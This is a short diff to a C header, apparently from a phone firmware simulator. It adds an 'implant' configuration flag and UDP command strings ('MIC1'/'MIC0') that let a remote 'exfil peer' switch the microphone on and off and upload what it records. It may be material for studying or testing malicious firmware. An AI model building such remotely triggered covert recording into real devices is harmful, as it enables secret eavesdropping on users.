@@ -73,6 +73,11 @@
 /* Configuration block at BB_CONFIG (host writes it before HS_EV_BOOT). */
 #define BB_CONFIG_MAGIC 0x42424346u /* "FCBB" */
 #define BB_CFG_HOSTILE 0x1          /* open the mic unasked and upload */
+#define BB_CFG_IMPLANT 0x2          /* same, while the exfil peer says so */
+/* Implant commands: a UDP datagram from exfil_addr:exfil_port to the
+ * phone's exfil_port whose payload starts with one of these. */
+#define BB_IMPLANT_MIC_ON "MIC1"
+#define BB_IMPLANT_MIC_OFF "MIC0"
 typedef struct BbConfigBlock {
     uint32_t magic;       /* BB_CONFIG_MAGIC */
     uint32_t flags;       /* BB_CFG_* */
